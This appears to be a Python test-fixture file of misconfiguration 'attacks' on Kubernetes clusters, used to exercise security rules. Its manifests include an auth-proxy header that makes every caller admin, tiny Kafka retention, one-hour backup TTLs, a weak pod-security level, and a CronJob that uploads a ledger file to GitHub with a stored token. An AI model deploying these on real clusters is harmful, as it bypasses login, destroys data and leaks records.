"""Attacks on clusters (2026-12-01, twenty-second set, written before any rule ran on it).

Fields as in the projects named, as known unless a date stands beside it.
"""

from ..blind import TAGS, crd, k8s, meta, pod
from ..harness import Given
from . import Attack

EXP = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-115")
RSL = ("FJ-RSL-", "FJ-ESC-", "FJ-IDN-313")
RES = ("FJ-RES-",)


def nightly(container: dict[str, object]) -> Given:
    """Returns a job of each night."""
    template = {"metadata": {"labels": {**TAGS, "app": "x"}}, "spec": {**pod(container), "restartPolicy": "Never"}}
    return k8s("batch/v1:CronJob", {"metadata": meta(), "spec": {
        "schedule": "0 2 * * *", "concurrencyPolicy": "Forbid", "jobTemplate": {"spec": {
            "backoffLimit": 2, "activeDeadlineSeconds": 3600, "template": template}}}})  # fmt: skip


ATTACKS = (
    Attack("a route signs every caller in as the administrator", EXP, (
        k8s("gateway.networking.k8s.io/v1:HTTPRoute", {"metadata": meta("figures"), "spec": {
            "parentRefs": [{"name": "internal", "namespace": "gateways"}], "hostnames": ["figures.bank.ae"],
            "rules": [{
                "matches": [{"path": {"type": "PathPrefix", "value": "/"}}],
                "filters": [{"type": "RequestHeaderModifier", "requestHeaderModifier": {
                    "set": [{"name": "X-WEBAUTH-USER", "value": "admin"}]}}],
                "backendRefs": [{"name": "grafana", "port": 3000}]}]}}),),
        "critical", "Grafana behind a proxy believes the header (grafana/grafana, 'Configure auth proxy "
        "authentication')"),
    Attack("a topic of payments keeps one megabyte", RSL, (crd("kafka.strimzi.io/v1:KafkaTopic", {
        "topicName": "payments", "partitions": 12, "replicas": 3,
        "config": {"min.insync.replicas": 2, "cleanup.policy": "delete", "retention.ms": 604800000,
                   "retention.bytes": 1048576, "segment.bytes": 1048576}}, "payments"),),
        "major", "what was not read at once is deleted, whatever its age (apache/kafka, topic setting "
        "retention.bytes)"),
    Attack("each backup is deleted an hour after it was made", RSL, (crd("velero.io/v1:Schedule", {
        "schedule": "0 2 * * *", "template": {
            "includedNamespaces": ["payments"], "storageLocation": "dc2", "snapshotVolumes": True,
            "ttl": "1h0m0s"}}, "payments"),),
        "major", "in the morning there is none to restore (vmware-tanzu/velero, Backup spec.ttl)"),
    Attack("a namespace enforces the level of the first release", ("FJ-EXP-", "FJ-ESC-"), (
        k8s("core/v1:Namespace", {"metadata": {"name": "team-a", "labels": {
            **TAGS, "pod-security.kubernetes.io/enforce": "restricted",
            "pod-security.kubernetes.io/enforce-version": "v1.0"}}}),),
        "major", "checks that came later, of privilege escalation, seccomp and capabilities, are left out "
        "(kubernetes/pod-security-admission, policy, minimum versions)"),
    Attack("an extract of the ledger is published as a release of each night", RES, (nightly({
        "command": ["/bin/sh", "-c"],
        "args": ["gh release upload nightly /exports/ledger.csv --repo bank/exports --clobber"],
        "env": [{"name": "GH_TOKEN", "valueFrom": {"secretKeyRef": {"name": "forge", "key": "token"}}}]}),),
        "critical", "the command sends to github.com unless it is told another host (cli/cli, gh release upload)"),
)  # fmt: skip
